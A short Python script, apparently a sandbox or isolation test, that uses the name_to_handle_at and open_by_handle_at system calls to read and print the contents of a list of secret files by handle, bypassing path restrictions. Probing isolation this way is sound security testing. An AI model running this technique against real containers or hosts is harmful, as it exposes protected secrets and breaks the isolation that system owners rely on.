# Opens a file of the store by its file handle.
import ctypes
import os
from target import call, secrets

for path in secrets:
    handle = ctypes.create_string_buffer(bytes([128, 0, 0, 0]), 200)
    mount = ctypes.c_int()
    name = ctypes.create_string_buffer(path.encode())
    addresses = [ctypes.addressof(thing) for thing in (name, handle, mount)]
    try:
        call("name_to_handle_at", -100, *addresses, 0)
        for at in [-100, os.open("/", os.O_RDONLY)]:
            print(os.read(call("open_by_handle_at", at, addresses[1], 0), 1000))
    except OSError as error:
        print(error)
